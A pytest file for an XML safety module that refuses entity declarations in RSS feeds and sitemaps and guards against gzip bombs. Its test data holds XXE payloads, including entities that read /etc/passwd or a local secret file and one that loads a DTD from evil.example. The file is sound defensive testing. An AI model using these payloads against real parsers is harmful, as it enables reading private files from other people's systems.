"""Entity declarations refused before parsing; the parsers safe even without that."""

from __future__ import annotations

from pathlib import Path

import pytest

from extractors import sitemaps
from extractors.links import LinkDiscoveryError, discover_links, parse_sitemap
from extractors.xml_safety import UnsafeXML, refuse_entity_declarations

RSS_BODY = (
    b'<rss version="2.0"><channel><title>T</title>'
    b"<item><title>x</title><link>https://example.com/a/b-c-d</link></item></channel></rss>"
)


@pytest.mark.parametrize(
    "prolog",
    [
        b"",
        b'<?xml version="1.0" encoding="utf-8"?>',
        b'<?xml version="1.0"?>\n<!-- a comment <!ENTITY not really> -->\n',
        b'<?xml-stylesheet type="text/xsl" href="/rss.xsl"?>',
        # RSS 0.91's external DTD: never loaded
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        b' "http://my.netscape.com/publish/formats/rss-0.91.dtd">',
        b'<!DOCTYPE rss [<!ELEMENT rss ANY><!ATTLIST rss version CDATA "2.0">]>',
    ],
)
def test_prologs_without_entities_pass(prolog: bytes) -> None:
    refuse_entity_declarations(prolog + RSS_BODY)
    assert discover_links("rss", prolog + RSS_BODY, "https://example.com/feed")


@pytest.mark.parametrize(
    "prolog",
    [
        b'<!DOCTYPE rss [<!ENTITY a "b">]>',
        b'<!DOCTYPE rss [<!entity a "b">]>',
        b'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE rss [<!ENTITY % pe SYSTEM "http://evil.example/x.dtd"> %pe;]>',
        # a "]" inside a quoted string must not end the scan before the declaration
        b'<!DOCTYPE rss [<!ATTLIST rss a CDATA "]>"><!ENTITY lol "lol">]>',
        b'<!DOCTYPE rss SYSTEM "x]>" [<!ENTITY lol "lol">]>',
        b'<?xml version="1.0"?><!-- c --><!DOCTYPE rss [<!-- c --><!ENTITY a "b">]>',
    ],
)
def test_entity_declarations_are_refused(prolog: bytes) -> None:
    with pytest.raises(UnsafeXML, match="declares XML entities"):
        refuse_entity_declarations(prolog + RSS_BODY)


def test_entity_declarations_in_utf16_are_seen() -> None:
    doc = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE rss [<!ENTITY a "b">]><rss/>'
    with pytest.raises(UnsafeXML):
        refuse_entity_declarations(doc.encode("utf-16"))


def test_unterminated_or_padded_doctype_is_refused() -> None:
    with pytest.raises(UnsafeXML, match="refused: "):
        refuse_entity_declarations(b"<!DOCTYPE rss [" + b"<!-- pad -->" * 10_000)


def test_entity_markup_quoted_in_the_body_is_fine() -> None:
    # a security-news feed may well write about XXE
    doc = (
        b'<rss version="2.0"><channel><title>T</title><item><title>XXE explained</title>'
        b"<description><![CDATA[Use <!ENTITY xxe SYSTEM 'file:///'> to ...]]></description>"
        b"<link>https://example.com/a/xxe-explained-here</link></item></channel></rss>"
    )
    links = discover_links("rss", doc, "https://example.com/feed")
    assert [link.url for link in links] == ["https://example.com/a/xxe-explained-here"]


def test_sitemap_parser_resolves_nothing_even_without_the_check(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Defence in depth: with the pre-check switched off, lxml still resolves no entity.
    secret = tmp_path / "secret.txt"
    secret.write_text("https://example.com/leaked/top-secret-file-contents")
    monkeypatch.setattr(sitemaps, "refuse_entity_declarations", lambda content: None)
    doc = (
        f'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file://{secret}">]>'
        "<urlset><url><loc>&xxe;</loc></url>"
        "<url><loc>https://example.com/a/normal-story-here</loc></url></urlset>"
    ).encode()
    links = parse_sitemap(doc, "https://example.com/").links
    assert [link.url for link in links] == ["https://example.com/a/normal-story-here"]


def test_gzipped_sitemap_with_entities_is_refused() -> None:
    import gzip

    doc = b'<!DOCTYPE urlset [<!ENTITY a "b">]><urlset/>'
    with pytest.raises(LinkDiscoveryError, match="declares XML entities"):
        parse_sitemap(gzip.compress(doc), "https://example.com/")


def test_gzipped_sitemap_bomb_is_cut() -> None:
    import gzip

    head = b"<urlset><url><loc>https://example.com/a/story-one-here</loc></url><!--"
    bomb = gzip.compress(head + b" " * (sitemaps.MAX_SITEMAP_BYTES + 1) + b"--></urlset>")
    with pytest.raises(LinkDiscoveryError, match="larger than"):
        parse_sitemap(bomb, "https://example.com/")
